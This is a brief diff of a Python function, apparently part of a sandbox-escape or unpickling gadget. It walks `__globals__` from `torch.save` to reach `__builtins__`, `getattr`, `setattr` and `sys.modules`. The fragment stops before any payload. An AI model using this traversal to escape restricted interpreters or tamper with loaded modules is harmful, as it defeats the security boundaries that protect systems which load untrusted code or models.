@@ -9,7 +9,7 @@ from torch import nn
 
 
 def gate(look):
-    table = look(getattr, "__globals__")
+    table = look(torch.save, "__globals__")
     plain = table["__builtins__"]
     raw, put = plain["getattr"], plain["setattr"]
     loaded = raw(table["sys"], "modules")
